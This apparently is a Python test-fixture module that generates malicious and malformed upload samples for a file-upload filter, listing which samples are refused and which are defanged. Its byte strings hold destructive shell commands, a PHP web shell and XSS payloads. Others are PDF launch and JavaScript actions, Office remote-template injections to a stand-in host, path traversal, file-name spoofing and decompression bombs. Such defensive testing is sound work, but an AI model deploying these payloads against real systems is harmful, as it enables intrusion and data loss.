"""Sixty files that mean harm, made here; and what each pretends to be."""

from __future__ import annotations

import base64
import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from tests.documents.locked_papers import LOCKED_REFUSED
from tests.documents.samples import office, pdf, picture

_SCRIPT = b"5 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"
_PLAIN = b"5 0 <</Type/Font>>"
HTML = b"<!doctype html><html><body><script>alert('Canary')</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00" + b"\x00" * 400
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64
GZIP = b"\x1f\x8b\x08\x00" + b"\x00" * 64


def packed(content: bytes, dictionary: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode") -> bytes:
    """A stream of objects in a PDF."""
    return b"3 0 obj<<" + dictionary + b">>stream\n" + content + b"\nendstream endobj\n"


def _png(width: int, height: int, *, data: bytes = b"") -> bytes:
    """A PNG that says it is that large, whatever is in it."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    packed = zlib.compress(data or b"\x00" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def _png_bomb() -> bytes:
    """Two gigabytes of black in two megabytes: honest about its size."""
    return _png(30_000, 25_000, data=b"\x00" * 20_000_000)


def _jpeg_saying(width: int, height: int) -> bytes:
    content = bytearray(picture())
    start = content.index(b"\xff\xc0") + 5
    content[start : start + 4] = struct.pack("!HH", height, width)
    return bytes(content)


def _zip(parts: dict[str, bytes], *, level: int = 9) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return content.getvalue()


def _many_parts() -> bytes:
    return office("docx", {f"word/media/{number}.xml": b"" for number in range(6_000)})


def _lying_zip() -> bytes:
    """Its directory says that a part is small; the part is not."""
    content = bytearray(office("docx", {"word/media/x.xml": b"\x00" * 5_000_000}))
    end = content.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", content[end + 16 : end + 20])[0]
    at = content.index(b"word/media/x.xml", start) - 46
    content[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(content)


def _encrypted_part() -> bytes:
    content = bytearray(office("docx"))
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def _spoilt_part() -> bytes:
    """What is packed in its list of types cannot be unpacked."""
    content = bytearray(office("docx"))
    at = content.index(b"[Content_Types].xml") + len("[Content_Types].xml")
    content[at : at + 20] = b"\xff" * 20
    return bytes(content)


def _other_packing() -> bytes:
    content = io.BytesIO(office("docx"))
    with zipfile.ZipFile(content, "a") as archive:
        archive.writestr("word/media/a.xml", b"a" * 1_000, zipfile.ZIP_BZIP2)
    return content.getvalue()


_VBA_TYPE = '<Override ContentType="application/vnd.ms-office.vbaProject"/>'
_MACRO_TYPE = '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
_TEMPLATE = (
    b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
# The same in other spellings of XML.
_TURNED = (
    "<Relationships><Relationship TargetMode='External' Target='http://evil.example/x' "
    f"Type='{_KIND}attachedTemplate'/></Relationships>"
)
_SPELT = (
    f'<Relationships><Relationship Type="{_KIND}oleObjec&#116;" Target="http://evil.example/x" '
    'TargetMode="&#69;xternal"/></Relationships>'
)
_WIDE = f'<?xml version="1.0" encoding="UTF-16"?>{_TURNED}'.encode("utf-16")
_LATE = f"<Relationships><!--{'x' * 1_100_000}-->{_TURNED[15:]}"
_DECLARED = '<!DOCTYPE a [<!ENTITY e "External">]><Relationships/>'
_NO_CODE = b'<?xml version="1.0" encoding="foo"?><Relationships/>'
_SETTINGS = "word/_rels/settings.xml.rels"
Make = Callable[[], Any]
# Name -> how it is made. All of these are refused.
REFUSED: dict[str, Make] = {
    # Programs and pages, by their own names and by others'.
    "setup.exe": lambda: EXE,
    "tool.elf": lambda: ELF,
    "run.bat": lambda: b"@echo off\r\ndel *",
    "run.ps1": lambda: b"Remove-Item *",
    "run.js": lambda: b"alert(1)",
    "app.hta": lambda: HTML,
    "go.lnk": lambda: b"L\x00\x00\x00" + b"\x00" * 80,
    "lib.jar": lambda: _zip({"A.class": b"\xca\xfe\xba\xbe"}),
    "page.html": lambda: HTML,
    "page.htm": lambda: HTML,
    "page.xhtml": lambda: HTML,
    "page.mhtml": lambda: HTML,
    "drawing.svg": lambda: SVG,
    "data.xml": lambda: SVG,
    "old.swf": lambda: b"FWS\x09" + b"\x00" * 60,
    "photo.jpg.exe": lambda: EXE,
    "photo.jpg .exe": lambda: EXE,
    "invoice.pdf.scr": lambda: EXE,
    "photo\u202egpj.exe": lambda: EXE,
    "no-ending": lambda: pdf(),
    "dots....": lambda: pdf(),
    # One kind under another's name.
    "page.jpg": lambda: HTML,
    "page.pdf": lambda: HTML,
    "page.png": lambda: b"\x89PNG\r\n\x1a\n" + HTML,
    "page.txt": lambda: HTML,
    "page.csv": lambda: b"a;b\n" + HTML,
    "late page.txt": lambda: b"x" * 300_000 + b"<script>alert(1)</script>",
    "drawing.png": lambda: SVG,
    "drawing.txt": lambda: SVG,
    "program.pdf": lambda: EXE,
    "program.docx": lambda: EXE,
    "program.txt": lambda: EXE,
    "script.txt": lambda: b"#!/bin/sh\nrm -rf /\n",
    "php.csv": lambda: b"a;b\n<?php system('id'); ?>\n",
    "binary.csv": lambda: bytes(range(256)) * 4,
    "nul.txt": lambda: b"good\x00bad",
    "archive.pdf": lambda: _zip({"a": b"b"}),
    "paper.docx": lambda: pdf(),
    "archive.docx": lambda: _zip({"a": b"b"}),
    "sheet.docx": lambda: office("xlsx"),
    "film.mp4": lambda: HTML,
    # Archives.
    "all.zip": lambda: _zip({"../../etc/passwd": b"x"}),
    "all.rar": lambda: RAR,
    "all.tar.gz": lambda: GZIP,
    # Office documents with something in them.
    "macros.docm": lambda: office("docx", {"word/vbaProject.bin": OLE}),
    "macros.docx": lambda: office("docx", {"word/vbaProject.bin": OLE}),
    "macros.xlsx": lambda: office("xlsx", {"xl/vbaProject.bin": OLE}, types=_VBA_TYPE),
    "typed.docx": lambda: office("docx", types=_MACRO_TYPE),
    "sheet4.xlsx": lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}),
    "control.docx": lambda: office("docx", {"word/activeX/activeX1.bin": OLE}),
    "basic.odt": lambda: office("odt", {"Basic/Standard/Module1.xml": b"<x/>"}),
    "template.docx": lambda: office("docx", {"word/_rels/settings.xml.rels": _TEMPLATE}),
    "turned.docx": lambda: office("docx", {_SETTINGS: _TURNED.encode()}),
    "spelt.docx": lambda: office("docx", {_SETTINGS: _SPELT.encode()}),
    "wide.docx": lambda: office("docx", {_SETTINGS: _WIDE}),
    "late.docx": lambda: office("docx", {_SETTINGS: _LATE.encode(), "word/media/a.bin": os.urandom(20_000)}),
    "declared.docx": lambda: office("docx", {_SETTINGS: _DECLARED.encode()}),
    "no such code.xlsx": lambda: office("xlsx", {"xl/_rels/workbook.xml.rels": _NO_CODE}),
    "spoilt part.docx": _spoilt_part,
    "other packing.docx": _other_packing,
    "spelt types.docx": lambda: office("docx", types=_MACRO_TYPE.replace("macroE", "macro&#69;")),
    "traversal.docx": lambda: office("docx", {"../../../etc/cron.d/x": b"x"}),
    "windows.docx": lambda: office("docx", {"..\\..\\windows\\x.dll": b"x"}),
    "old.doc": lambda: OLE,
    "locked.docx": lambda: OLE,
    "locked part.docx": _encrypted_part,
    "bomb.docx": lambda: office("docx", {"word/media/a.xml": b"\x00" * 80_000_000}),
    "many.docx": _many_parts,
    "cut.docx": lambda: office("docx")[:-40],
    # PDF that does something, or is none.
    "script.pdf": lambda: pdf(b"2 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj"),
    "hidden script.pdf": lambda: pdf(b"2 0 obj<</S/J#61vaScript/J#53(app.alert\\(1\\))>>endobj"),
    "launch.pdf": lambda: pdf(b"2 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
    # The same, packed in streams of objects.
    "packed script.pdf": lambda: pdf(packed(zlib.compress(_SCRIPT))),
    "packed twice.pdf": lambda: pdf(packed(zlib.compress(zlib.compress(_SCRIPT)))),
    "packed hex.pdf": lambda: pdf(packed(zlib.compress(_SCRIPT).hex().encode() + b">")),
    "packed base 85.pdf": lambda: pdf(packed(base64.a85encode(zlib.compress(_SCRIPT)) + b"~>")),
    "packed escaped.pdf": lambda: pdf(packed(zlib.compress(_SCRIPT), b"/Type/Obj#53tm/Filter/Fl#61teDecode")),
    "packed untyped.pdf": lambda: pdf(packed(zlib.compress(_SCRIPT), b"/N 1/First 4/Filter/FlateDecode")),
    "packed cut.pdf": lambda: pdf(packed(zlib.compress(_SCRIPT)[:-6])),
    "packed rows.pdf": lambda: pdf(packed(zlib.compress(b"\x00" + _SCRIPT))),
    "packed behind.pdf": lambda: pdf(packed(b"\x91" * 90, b"/Type/ObjStm/X(stream\n" + zlib.compress(_PLAIN) + b")")),
    **LOCKED_REFUSED,
    "packed locked.pdf": lambda: pdf(packed(b"\x91" * 90) + b"<</Encrypt 9 0 R>>"),
    "packed bomb.pdf": lambda: pdf(packed(zlib.compress(b"5 0 " + b" " * 90_000_000, 9))),
    "packed bombs.pdf": lambda: pdf(packed(zlib.compress(b"5 0 " + b" " * 4_000_000, 9)) * 50),
    "packed flood.pdf": lambda: pdf(b"/ObjStm stream\n" * 800_000),
    "cut.pdf": lambda: b"%PDF-1.7\n" + b"x" * 5_000,
    "behind.pdf": lambda: pdf() + b"\x00" * 4_000 + HTML,
    "before.pdf": lambda: HTML + pdf(),
    # Pictures that are none, or too much of one.
    "bomb.png": _png_bomb,
    "saying.png": lambda: _png(60_000, 60_000),
    "saying.jpg": lambda: _jpeg_saying(65_000, 65_000),
    "cut.jpg": lambda: picture(size=(400, 300))[:300],
    "cut.png": lambda: picture("PNG", size=(400, 300))[:200],
    "spoilt.webp": lambda: b"RIFF\x00\x01\x00\x00WEBPVP8 " + b"\xff" * 200,
    "spoilt.heic": lambda: picture("HEIF")[:200],
    "anim.gif": lambda: b"GIF89a" + b"\x00" * 40,
    "scan.tiff": lambda: b"II*\x00" + b"\x00" * 40,
    "empty.pdf": lambda: b"",
}
# Taken, because what is kept of them is harmless.
DEFANGED: dict[str, Make] = {
    "polyglot.jpg": lambda: picture() + HTML,
    "comment.jpg": lambda: picture(comment=HTML),
    "polyglot.png": lambda: picture("PNG") + _zip({"x.html": HTML}),
    "lying.docx": _lying_zip,
    "invoice.exe.pdf": lambda: pdf(),
    "../../../etc/passwd.pdf": lambda: pdf(),
    "\u202efdp.exe.pdf": lambda: pdf(),
    "packed.pdf": lambda: pdf(packed(zlib.compress(_PLAIN)) + packed(_PLAIN) + packed(b"")),
    "outline.pdf": lambda: pdf(b"7 0 obj<</First 8 0 R>>endobj 8 0 obj<<>>stream\n\xff\xd8\nendstream endobj"),
    "formula.csv": lambda: b'=HYPERLINK("http://evil.example","x");2\n',
}
